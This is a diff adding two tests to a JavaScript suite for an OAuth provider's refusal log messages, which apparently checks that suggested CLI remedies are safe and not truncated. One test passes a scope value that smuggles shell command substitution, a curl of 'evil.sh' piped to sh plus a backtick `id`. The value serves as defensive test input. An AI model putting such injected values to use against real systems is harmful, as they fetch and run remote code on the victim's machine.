@@ -207,6 +207,27 @@ describe('the log line of a refusal', () => {
       },
     ]);
   });
+  it('ST-02 names no command that widens a client, for a request that goes on', async () => {
+    const { world, lines } = await logged();
+    await world.provider.clients.update(world.web.clientId, { scopes: ['openid'] });
+    await getTokens(world, { scope: 'openid read write' });
+    await getTokens(world, { scope: 'openid $(curl${IFS}evil.sh|sh) `id`' });
+    const [narrow, odd] = lines.map(({ remedy }) => remedy);
+    expect(narrow).toBe('only if the application may have it: its option --scope');
+    expect(odd).toMatch(/or define what is missing under scopes in the configuration$/);
+  });
+  it('ST-02 cuts no command in the middle', async () => {
+    const { world, lines } = await logged();
+    const redirectUris = Array.from(
+      { length: 9 },
+      (_, index) => `https://rp.example/${'a'.repeat(60)}${index}`,
+    );
+    await world.provider.clients.update(world.web.clientId, { redirectUris });
+    await openAuthorize(world, browserOf(world));
+    expect(lines.at(-1)?.['remedy']).toMatch(
+      /: change --redirect-uri of this application with: npx valetkey application update$/,
+    );
+  });
   it('[RFC6749 §3.2] names a parameter that is empty', async () => {
     const { world, lines } = await logged();
     await post(world, 'token', { grant_type: 'authorization_code', code: '' });
